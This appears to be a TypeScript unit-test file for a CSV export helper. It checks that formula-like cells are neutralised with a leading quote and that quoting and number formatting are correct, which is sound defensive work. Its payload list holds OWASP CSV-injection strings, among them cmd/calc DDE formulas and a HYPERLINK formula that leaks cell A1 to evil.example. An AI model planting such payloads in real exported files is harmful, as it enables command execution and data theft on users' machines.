import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { csvCell, csvFixed, csvLine } from './csv';

/** What a spreadsheet reads from one cell of a line: the text between the commas, unquoted. */
const unquoted = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);

describe('csvCell: a spreadsheet opens every text cell as text, never as a formula', () => {
  // OWASP's CSV injection payloads, their tab and carriage-return forms, and the full-width signs.
  const payloads = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    '-2+3+cmd|\' /C calc\'!A0',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
    '=1+2',
    '+1',
    '-1',
    '@',
    "\t=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
    "＝cmd|' /C calc'!A0",
    '＋1+1',
    '－1+1',
    '＠SUM(1+1)',
  ];

  for (const payload of payloads) {
    it(`neutralises ${JSON.stringify(payload)}`, () => {
      const cell = csvCell(payload);
      assert.equal(unquoted(cell), `'${payload}`, 'a leading quote, the text kept whole');
      assert.ok(!/^[=+\-@\t\r＝＋－＠]/.test(unquoted(cell)), cell);
    });
  }

  it('quotes a cell holding a comma, a quote or a line break, its quotes doubled', () => {
    assert.equal(csvCell('Rahman, Karim'), '"Rahman, Karim"');
    assert.equal(csvCell('15" wheel'), '"15"" wheel"');
    assert.equal(csvCell('line one\nline two'), '"line one\nline two"');
    assert.equal(csvCell('=HYPERLINK("x","y")'), `"'=HYPERLINK(""x"",""y"")"`);
    assert.equal(csvCell("\r=1"), `"'\r=1"`);
  });

  it('leaves plain text as it is, a minus inside the text too', () => {
    assert.equal(csvCell('Brake Pad'), 'Brake Pad');
    assert.equal(csvCell('JE-000123'), 'JE-000123');
    assert.equal(csvCell('মোটরসাইকেল'), 'মোটরসাইকেল');
    assert.equal(csvCell("O'Brien"), "O'Brien");
    assert.equal(csvCell(''), '');
  });

  it('writes numbers as numbers: a negative amount keeps its minus and stays summable', () => {
    assert.equal(csvCell(-1500), '-1500');
    assert.equal(csvCell(-0.29), '-0.29');
    assert.equal(csvCell(csvFixed(-1500)), '-1500.00');
    assert.equal(csvCell(csvFixed(1234.5)), '1234.50');
    assert.equal(csvCell(csvFixed(2.345, 1)), '2.3');
    assert.equal(csvCell(12n), '12');
    assert.equal(csvCell(Number.NaN), '');
  });

  it('tells a number from text by its type, not by its look: "-1500.00" passed as text is neutralised', () => {
    assert.equal(csvCell('-1500.00'), "'-1500.00");
    assert.equal(csvCell('2026-01-22'), '2026-01-22');
  });

  it('writes booleans as Yes/No and null or undefined as an empty cell', () => {
    assert.equal(csvLine([true, false, null, undefined]), 'Yes,No,,');
  });

  it('joins a line of mixed cells with commas', () => {
    assert.equal(csvLine(['1101', "-1+cmd|' /C calc'!A0", csvFixed(-25), 3, '']), "1101,'-1+cmd|' /C calc'!A0,-25.00,3,");
  });
});
